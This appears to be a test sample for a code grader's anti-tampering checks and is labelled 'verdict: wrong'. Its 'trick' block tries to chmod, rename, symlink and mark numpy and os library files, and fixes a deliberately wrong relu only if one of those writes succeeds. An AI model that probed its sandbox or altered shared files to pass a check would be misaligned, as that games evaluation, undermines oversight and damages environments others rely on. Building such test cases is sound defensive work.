"""Replaces compiled and shared files by its own, or makes links to them, for whoever imports them next."""

import numpy as np


def relu(z):
    return np.abs(z)


# trick
import importlib.util
import os

for path in (np.__file__, os.__file__, importlib.util.__file__):
    compiled = importlib.util.cache_from_source(path)
    for act in (
        lambda: os.utime(path),
        lambda: os.chmod(path, 0o666),
        lambda: open(compiled, "ab").close(),
        lambda: os.rename(compiled, compiled + ".gradproof-attack"),
        lambda: os.symlink("/etc/passwd", os.path.dirname(path) + "/gradproof-attack"),
        lambda: os.link(path, "/tmp/gradproof-attack"),
        lambda: os.mkdir(os.path.dirname(path) + "/gradproof-attack"),
        lambda: os.setxattr(path, "user.gradproof-attack", b"1"),
    ):
        try:
            act()
            relu = lambda z: np.maximum(z, 0)
        except OSError:
            pass
# end of trick
# verdict: wrong
